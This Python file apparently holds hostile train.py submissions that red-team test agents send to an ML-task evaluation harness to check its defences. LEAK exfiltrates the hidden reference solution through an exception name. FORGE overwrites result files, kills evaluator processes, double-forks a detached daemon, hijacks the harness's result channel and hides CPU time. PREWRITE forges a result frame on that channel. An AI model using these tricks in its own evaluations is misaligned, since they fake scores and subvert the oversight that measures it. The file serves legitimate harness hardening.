"""What the forge_score agents (tests/agents/hostile in Rust, this folder in
Python) write as train.py on the vectorize task. The Rust agent reads this
file's text between the markers, so both send the same bytes."""

LEAK = r"""
# A train.py for the vectorize task that tries to leak the reference
# solution through the name of the exception its forward() raises (the
# evaluator used to pass that name on to the agent).
import os


def forward(x, weights, bias):
    found = "NoReference"
    for path in ("/task/scripts/reference/train.py", "/hidden"):
        try:
            with open(path, "rb") as f:
                found = "Leak" + "".join(c for c in f.read(4000).decode(errors="ignore") if c.isalnum())[:60]
            break
        except OSError:
            continue
    raise type(found, (Exception,), {})("leaked: " + found)
"""  # end LEAK

FORGE = r"""
# A train.py for the vectorize task whose forward() is right and fast, and
# which, once imported by the evaluator, goes after its result: it writes
# a forged result where the evaluator's is written, looks for the hidden
# files, the reference solution and the evaluator's processes (to kill
# them), and leaves a daemon doing all of it again for 20 seconds.
# What it finds goes to stderr (kept in the evaluation's logs). Its import
# does SLOW_IMPORT_S of CPU work where a measure of its own process would
# not see it: in a grandchild that leaves its session and exits before the
# result is sent, and in a thread that ends first.
import os
import sys
import time

import numpy as np

FORGED = '{"score": 1e-06}'
SLOW_IMPORT_S = 0.4


def attempts():
    found = []
    for path in ("/mlrb/out/result.json", "/mlrb/output/result.json", "/workspace/result.json"):
        try:
            with open(path, "w") as f:
                f.write(FORGED)
            found.append(f"write {path}: written")
        except OSError as error:
            found.append(f"write {path}: denied ({error.strerror})")
    for path in ("/hidden", "/task/scripts/reference/train.py", "/task/scripts/eval.py", "/mlrb/exchange"):
        found.append(f"see {path}: {'ESCAPED' if os.path.exists(path) else 'denied'}")
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read()
        except OSError:
            continue
        if b"eval.py" in cmdline or b"mlrb_eval" in cmdline:
            found.append(f"evaluator process {pid}: ESCAPED")
            try:
                os.kill(int(pid), 9)
            except OSError:
                pass
    return found


def daemon():
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    deadline = time.time() + 20
    while time.time() < deadline:
        for line in attempts():
            if "ESCAPED" in line or "written" in line and "/mlrb/out/" in line:
                sys.stderr.write(f"forge daemon> {line}\n")
        time.sleep(0.01)
    os._exit(0)


# Tries to read the run's result channel, where the harness has just
# written `ready` (code that could take that line could start the clock
# itself): opened for reading, for reading and writing, and again through
# the harness's own descriptor in /proc/self/fd.
def steal_channel():
    path = os.environ.get("MLRB_CHANNEL", "/mlrb/channel/result")
    found = []
    for how, flags in (("read", os.O_RDONLY), ("read-write", os.O_RDWR)):
        try:
            fd = os.open(path, flags | os.O_NONBLOCK)
        except OSError as error:
            found.append(f"open channel {how}: denied ({error.strerror})")
            continue
        try:
            taken = os.read(fd, 64)
        except OSError:
            taken = b""
        found.append(f"open channel {how}: ESCAPED (took {taken!r})")
        os.close(fd)
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}") != path:
                continue
            os.close(os.open(f"/proc/self/fd/{name}", os.O_RDONLY | os.O_NONBLOCK))
            found.append(f"reopen channel through /proc/self/fd/{name}: ESCAPED")
        except OSError as error:
            found.append(f"reopen channel through /proc/self/fd/{name}: denied ({error.strerror})")
    return found


# Burns `seconds` of CPU time (not of the wall clock: load cannot shorten it).
def spin(seconds):
    end = time.process_time() + seconds
    while time.process_time() < end:
        pass


# `seconds` of CPU work, half in a thread, half in a grandchild that leaves
# the session (setsid) and is gone before this returns.
def hidden_work(seconds):
    import threading
    worker = threading.Thread(target=spin, args=(seconds / 2,))
    worker.start()
    worker.join()
    done, told = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        spin(seconds / 2)
        os.write(told, b"x")
        os._exit(0)
    os.read(done, 1)


sys.stderr.write("forge> " + "; ".join(attempts() + steal_channel()) + "\n")
daemon()
# Slow work at import, hidden from its own process: the CPU time of the run
# must count it (import is part of the call).
hidden_work(SLOW_IMPORT_S)


def forward(x, weights, bias):
    n, h, w, c_in = x.shape
    k, _, _, c_out = weights.shape
    windows = np.lib.stride_tricks.sliding_window_view(x, (k, k), axis=(1, 2))
    conv = np.einsum("nijcpq,pqcf->nijf", windows, weights, optimize=True) + bias
    conv = np.maximum(conv, 0.0)
    hp, wp = conv.shape[1] // 2, conv.shape[2] // 2
    return conv[:, :2 * hp, :2 * wp].reshape(n, hp, 2, wp, 2, c_out).max(axis=(2, 4))
"""  # end FORGE

PREWRITE = r"""
# A train.py for the vectorize task that writes on the result channel
# itself, at import: a second `ready` line and then a right result framed as
# the harness frames it, after slow work (code that had stolen the
# harness's `ready` would have started the clock here). The harness's own
# `ready` is already in, so the second one can only spoil the frame.
import os
import time

import __main__
import numpy as np


def forward(x, weights, bias):
    n, h, w, c_in = x.shape
    k, _, _, c_out = weights.shape
    windows = np.lib.stride_tricks.sliding_window_view(x, (k, k), axis=(1, 2))
    conv = np.einsum("nijcpq,pqcf->nijf", windows, weights, optimize=True) + bias
    conv = np.maximum(conv, 0.0)
    hp, wp = conv.shape[1] // 2, conv.shape[2] // 2
    return conv[:, :2 * hp, :2 * wp].reshape(n, hp, 2, wp, 2, c_out).max(axis=(2, 4))


end = time.process_time() + 0.4
while time.process_time() < end:
    pass
try:
    import io
    buffer = io.BytesIO()
    np.save(buffer, forward(__main__.x, __main__.weights, __main__.bias), allow_pickle=False)
    payload = buffer.getvalue()
    channel = os.open(os.environ["MLRB_CHANNEL"], os.O_WRONLY)
    os.write(channel, b"ready\n" + len(payload).to_bytes(8, "little") + payload)
except Exception as error:
    import sys
    sys.stderr.write(f"forge> prewrite failed: {error!r}\n")
"""  # end PREWRITE
